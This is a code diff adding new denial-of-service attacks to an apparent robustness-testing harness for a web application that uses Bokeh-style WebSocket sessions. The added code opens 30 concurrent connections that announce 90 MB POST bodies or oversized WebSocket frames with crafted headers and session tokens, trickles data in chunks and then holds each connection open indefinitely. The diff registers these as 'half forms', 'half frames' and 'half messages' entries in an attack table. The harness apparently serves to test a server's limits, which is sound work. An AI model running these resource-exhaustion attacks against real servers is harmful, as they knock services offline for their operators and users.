@@ -31,6 +31,9 @@ HALF = 100  # requests that never end
 HANDS = 20  # sockets that are opened at the same time
 HURRY = 0.02  # seconds from one to the next
 CHANNELS = 100  # of one page
+HALVES = 30
+BODY, MESSAGE = 90_000_000, 9_000_000  # bytes that are announced, of a request and on a socket
+CHUNK = 500_000  # ... that are sent at a time
 
 
 def link(*hidden: int) -> str:
@@ -309,6 +312,60 @@ async def half_asks(base: str) -> AsyncIterator[list[Visitor]]:
         half.close()
 
 
+def sends_halves(begin: Callable[[Visitor], bytes], size: int) -> Attack:
+    """What begins and never ends, of many megabytes each; what the server keeps of it is seen."""
+
+    @contextlib.asynccontextmanager
+    async def send_halves(base: str) -> AsyncIterator[list[Visitor]]:
+        visitor = Visitor(base)
+        await visitor.open()
+        parts, sent = urlsplit(base), itertools.count()
+
+        async def send_half() -> None:
+            _, line = await asyncio.open_connection(parts.hostname, parts.port)
+            with contextlib.suppress(ConnectionError):
+                line.write(begin(visitor))
+                for _ in range(size // CHUNK):
+                    line.write(b"x" * CHUNK)
+                    await line.drain()
+                    next(sent)
+                await asyncio.Event().wait()
+
+        async def send_all() -> None:
+            await asyncio.gather(*(send_half() for _ in range(HALVES)))
+
+        async with meanwhile(send_all(), [visitor]) as there:
+            yield there
+        print(f"  (it could send {next(sent) * CHUNK / 1e6:.0f} MB)")
+
+    return send_halves
+
+
+def _form(visitor: Visitor) -> bytes:
+    host = urlsplit(visitor.base).netloc
+    return f"POST /app HTTP/1.1\r\nHost: {host}\r\nContent-Length: {BODY}\r\n\r\n".encode()
+
+
+def _socket_of(route: str) -> Callable[[Visitor], bytes]:
+    """Opens a socket of the page, and begins a message."""
+
+    def begin(visitor: Visitor) -> bytes:
+        parts = urlsplit(visitor.base)
+        lines = [
+            f"GET {parts.path}/{route} HTTP/1.1",
+            f"Host: {parts.netloc}",
+            "Upgrade: websocket",
+            "Connection: Upgrade",
+            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
+            "Sec-WebSocket-Version: 13",
+            f"Sec-WebSocket-Protocol: bokeh, {visitor.token}",
+        ]
+        header = b"\x81\xff" + (MESSAGE + 1).to_bytes(8) + bytes(4)
+        return "\r\n".join([*lines, "", ""]).encode() + header
+
+    return begin
+
+
 ATTACKS: dict[str, Attack] = {
     "r x 2000": floods_r,
     "r [ r ] x 500": floods_all,
@@ -329,6 +386,9 @@ ATTACKS: dict[str, Attack] = {
     "own tokens": connects_and_leaves(_invented),
     "silent": stays_silent,
     f"{CHANNELS} channels": watches_often,
+    f"{HALVES} half forms": sends_halves(_form, BODY // 2),
+    f"{HALVES} half frames": sends_halves(_socket_of("frames"), MESSAGE),
+    f"{HALVES} half messages": sends_halves(_socket_of("ws"), MESSAGE),
 }
 # Attacks that start with ordinary visitors, whose cost "opens pages" shows.
 COME_FIRST = {f"{HOLDERS} hold r"}
